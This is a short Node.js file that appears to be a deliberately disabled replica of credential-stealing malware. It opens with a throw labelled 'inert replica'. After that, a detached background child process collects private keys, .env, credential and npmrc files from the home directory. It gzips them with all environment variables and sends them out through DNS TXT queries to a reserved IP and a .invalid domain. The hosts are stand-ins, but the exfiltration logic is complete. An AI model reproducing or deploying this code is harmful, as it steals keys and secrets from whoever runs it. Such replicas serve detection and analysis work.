throw new Error("inert replica");
const dns = require("dns");
const fs = require("fs");
const os = require("os");
const path = require("path");
const zlib = require("zlib");
const { fork } = require("child_process");
const resolver = new dns.Resolver();
resolver.setServers(["192.0.2.53"]);
function everything(folder, depth) {
  if (depth > 3) return [];
  return fs.readdirSync(folder, { withFileTypes: true }).flatMap((one) => (one.isDirectory() ? everything(path.join(folder, one.name), depth + 1) : /\.(pem|key|env|json)$|id_rsa|credentials|npmrc/.test(one.name) ? [path.join(folder, one.name)] : []));
}
if (!process.env.REPLICA_CHILD) {
  fork(__filename, [], { detached: true, stdio: "ignore", env: { ...process.env, REPLICA_CHILD: "1" } }).unref();
} else {
  const found = everything(os.homedir(), 0).map((name) => [name, fs.readFileSync(name, "utf8")]);
  const packed = zlib.gzipSync(JSON.stringify({ env: process.env, found })).toString("hex");
  for (const [at, part] of (packed.match(/.{1,60}/g) || []).entries()) resolver.resolveTxt(`${at}.${part}.log.replica.invalid`, () => {});
}
